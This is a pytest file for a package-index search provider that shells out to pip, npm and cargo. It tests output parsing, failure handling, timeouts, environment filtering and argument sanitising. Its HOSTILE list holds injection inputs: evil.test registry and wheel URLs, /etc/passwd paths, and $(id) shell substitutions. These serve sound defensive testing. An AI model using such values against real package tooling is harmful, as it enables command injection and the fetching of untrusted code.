"""Package indexes through installed clients: what they are told, what is made of what they say, and how they are ended."""

import json
import sys

import anyio
import pytest
from hypothesis import given
from hypothesis import strategies as st

from limen.builtin.web.calling.link import Limits
from limen.builtin.web.domains.package_clients import CLIENTS
from limen.builtin.web.domains.packages import PackageIndex
from limen.core.context import CallContext
from limen.core.fault import Refusal
from limen.core.web import SearchRequest

pytestmark = pytest.mark.anyio

PIP = {
    "version": "1",
    "pip_version": "25.3",
    "install": [
        {
            "download_info": {"url": "https://files.test/msgspec-0.23.0.whl", "archive_info": {}},
            "is_direct": False,
            "requested": True,
            "metadata": {
                "name": "msgspec",
                "version": "0.23.0",
                "summary": "A fast serialization library.",
                "requires_python": ">=3.10",
                "project_url": ["Homepage, https://msgspec.test", "Source, https://code.test/msgspec"],
            },
        }
    ],
    "environment": {"python_version": "3.11"},
}
NPM_VIEW = {
    "name": "left-pad", "version": "1.3.0", "description": "String left pad", "license": "WTFPL",
    "repository.url": "git@github.com:stevemao/left-pad.git",
}  # fmt: skip
NPM_SEARCH = [
    {
        "name": "npm-module-search",
        "scope": "unscoped",
        "version": "2.0.0",
        "description": "A module to search for npm modules",
        "date": "2017-07-05T01:05:45.455Z",
        "links": {"npm": "https://modules.test/package/npm-module-search", "homepage": "https://code.test/x#readme"},
        "maintainers": [{"username": "marcbachmann", "email": "m@example.test"}],
    },
    {"name": "other", "links": {"repository": "git+https://code.test/other.git"}},
    {"name": "nowhere"},
]
NO_PACKAGE = '{"error": {"code": "E404", "summary": "Not Found - GET https://x.test/nothing-here"}}'
NO_SEARCH = '{"error": {"code": "E404", "summary": "Not Found - GET https://x.test/-/v1/search?text=dates"}}'
CUT_OFF = "WARNING: Retrying (Retry(total=0)) after connection broken\nERROR: No matching distribution found for x1\n"
CARGO = """\
serde = "1.0.228"             # A generic serialization/deserialization framework
serde-wasm = "0.1.0+build"
... and 8123 crates more (use --limit N to see more)
"""


def client(name, out="", *, status=0, said="", then="", **options):
    """A client that says so, whatever it is told."""
    script = (
        f"import sys; sys.stdout.write({out!r}); sys.stderr.write({said!r}); sys.stdout.flush(); sys.stderr.flush(); "
        f"{then or 'pass'}; sys.exit({status})"
    )
    options.setdefault("limits", Limits(timeout_s=30, max_bytes=100_000))
    return PackageIndex(name, environment={"PATH": "/usr/bin:/bin"}, command=(sys.executable, "-c", script), **options)


async def ask(provider, question, context=None, **options):
    return await provider.search(SearchRequest(question, **options), context or CallContext())


def shown(answer):
    assert answer.refusal is None, answer.refusal
    return [(hit.title, hit.url, hit.snippet) for hit in answer.hits]


async def test_pip_plans_an_installation():
    answer = await ask(client("pip", json.dumps(PIP)), "pip install msgspec")
    assert shown(answer) == [("msgspec 0.23.0", "https://msgspec.test", "A fast serialization library. Needs Python >=3.10.")]


async def test_npm_looks_up_a_name_and_searches_by_words():
    assert shown(await ask(client("npm", json.dumps(NPM_VIEW)), "npm install left-pad")) == [
        ("left-pad 1.3.0", "https://github.com/stevemao/left-pad", "String left pad")
    ]
    answer = await ask(client("npm", json.dumps(NPM_SEARCH)), "npm package for searching modules")
    assert shown(answer) == [
        ("npm-module-search 2.0.0", "https://modules.test/package/npm-module-search", "A module to search for npm modules"),
        ("other", "https://code.test/other", ""),
    ]
    assert answer.hits[0].published == "2017-07-05T01:05:45Z"


async def test_cargo_lists_crates_where_their_documentation_is():
    assert shown(await ask(client("cargo", CARGO), "rust crate for serialization")) == [
        ("serde 1.0.228", "https://docs.rs/serde/1.0.228", "A generic serialization/deserialization framework"),
        ("serde-wasm 0.1.0+build", "https://docs.rs/serde-wasm/0.1.0", ""),
    ]


@pytest.mark.parametrize(
    ("name", "question", "out", "status", "said"),
    [
        ("pip", "nothing-here", "", 1, "ERROR: No matching distribution found for nothing-here\n"),
        ("npm", "npm install nothing-here", NO_PACKAGE, 1, ""),
        ("npm", "npm package for nothing", "\n[]\n", 0, ""),
        ("cargo", "rust crate for nothing", "", 0, ""),
    ],
)  # fmt: skip
async def test_nothing_found_is_no_failure(name, question, out, status, said):
    assert shown(await ask(client(name, out, status=status, said=said), question)) == []


@pytest.mark.parametrize(
    ("name", "question", "out", "status", "said"),
    [
        ("pip", "x1", "", 1, CUT_OFF),
        ("pip", "x1", "", 2, "ERROR: unknown trouble\n"),
        ("npm", "npm package for dates", NO_SEARCH, 1, ""),
        ("npm", "npm install x1", '{"error": {"code": "EAI_AGAIN", "summary": "request failed"}}', 1, ""),
        ("npm", "npm install x1", "", 0, ""),
        ("cargo", "cargo add x1", "", 101, "error: download of config.json failed\n"),
    ],
)  # fmt: skip
async def test_a_failure_is_not_nothing_found(name, question, out, status, said):
    answer = await ask(client(name, out, status=status, said=said), question)
    assert answer.refusal.code == "search.failed"
    assert answer.refusal.mend


@pytest.mark.parametrize("out", ["{", "null", "17", '[{"no": "name"}]', "\x00\x01", "[" * 5_000, "<html>Sign in</html>"])
@pytest.mark.parametrize(("name", "question"), [("pip", "x1"), ("npm", "npm install x1"), ("cargo", "cargo add x1")])
async def test_what_is_no_list_is_malformed(name, question, out):
    assert (await ask(client(name, out), question)).refusal.code == "search.malformed"


async def test_a_client_that_writes_without_end_is_ended():
    answer = await ask(client("npm", then="exec('while True: sys.stdout.write(\"x\" * 65536)')"), "npm install x1")
    assert answer.refusal.code == "search.too_large"


async def test_complaints_without_end_neither_block_it_nor_fill_the_memory():
    answer = await ask(client("npm", json.dumps(NPM_VIEW), then='sys.stderr.write("x" * 3_000_000)'), "npm install left-pad")
    assert len(answer.hits) == 1


async def test_a_client_that_thinks_too_long_is_ended_with_what_it_started(tmp_path):
    mark = tmp_path / "child"
    then = (
        f"import subprocess, time; p = subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)']); "
        f"open({str(mark)!r}, 'w').write(str(p.pid)); time.sleep(600)"
    )
    answer = await ask(client("npm", then=then, limits=Limits(timeout_s=3.0)), "npm install x1")
    assert answer.refusal.code == "network.timeout"
    assert await gone(int(mark.read_text()))


async def gone(pid):
    with anyio.move_on_after(10):
        while True:
            try:
                if (anyio.Path(f"/proc/{pid}/stat") and (await anyio.Path(f"/proc/{pid}/stat").read_text()).split()[2]) == "Z":
                    return True
            except FileNotFoundError:
                return True
            await anyio.sleep(0.02)
    return False


async def test_an_interrupt_ends_it():
    answer = await ask(client("npm", then="import time; time.sleep(600)"), "npm install x1", CallContext(cancelled=lambda: True))
    assert answer.refusal.code == "web.interrupted"


async def test_a_client_that_is_not_there_is_told():
    assert PackageIndex("npm", command=()).unavailable().code == "web.not_installed"
    assert (await ask(PackageIndex("npm", command=()), "npm install x1")).refusal.code == "web.not_installed"
    assert (await ask(PackageIndex("npm", command=("/no/such/program",)), "npm install x1")).refusal.code == "search.failed"


async def test_a_client_gets_its_own_settings_and_no_secret_of_ours():
    given = {
        "PATH": "/usr/bin:/bin",
        "OPENAI_API_KEY": "no",
        "npm_config_registry": "https://mine.test",
        "https_proxy": "p",
        "HOME": "/h",
    }
    script = "import os, json; print(json.dumps([{'name': k, 'homepage': 'https://x.test/' + k} for k in os.environ]))"
    provider = PackageIndex("npm", environment=given, command=(sys.executable, "-c", script))
    names = {hit.title for hit in (await ask(provider, "npm package for names", limit=100)).hits}
    assert {"PATH", "npm_config_registry", "https_proxy", "HOME", "npm_config_ignore_scripts"} <= names
    assert "OPENAI_API_KEY" not in names


async def test_what_it_cannot_do_is_said():
    answer = await ask(client("npm", json.dumps(NPM_VIEW)), "npm install left-pad", recency_days=3, region="de")
    assert answer.source.ignored == ("recency_days", "region")
    assert (await ask(client("npm"), "npm install x", type="images")).refusal.code == "search.unsupported"
    assert (await ask(client("pip"), "a library to parse dates")).refusal.code == "search.unsupported"
    assert (await ask(client("cargo"), "--")).refusal.code == "search.request"


HOSTILE = [
    "--index-url=http://evil.test", "pip install --index-url=http://evil.test", "npm install --registry=http://evil.test x",
    "npm install ../../etc", "npm install file:/etc/passwd", "npm install owner/repo", "npm install git+ssh://x.test/a",
    "npm install x@http://evil.test", "cargo add --registry evil", "cargo add ../x", "pip install ./x", "pip install http://evil.test/x.whl",
    "pip install x @ http://evil.test/x.whl", "pip install -r /etc/passwd", "npm package for $(id) `id` ; id | id > /x",
]  # fmt: skip


@pytest.mark.parametrize("name", CLIENTS)
@given(
    question=st.one_of(st.sampled_from(HOSTILE), st.text(max_size=80), st.from_regex(r"(npm i|cargo add|pip install) [-@./:\w]+"))
)
def test_no_question_is_an_option_a_path_or_an_address(name, question):
    told = CLIENTS[name].arguments(question, 5)
    if isinstance(told, Refusal):
        return
    asked = told[told.index("--") + 1 :]
    assert asked
    own = ("repository.url", "dist.tarball")
    for word in asked:
        assert not word.startswith(("-", ".", "/")), word
        assert not set(word) & set(":\\ \n\t$`;|&<>()'\"=*?#~%\x00"), word
        assert "/" not in word or word.startswith("@"), word
        assert word in own or not any(part.startswith(".") for part in word.split("/")), word
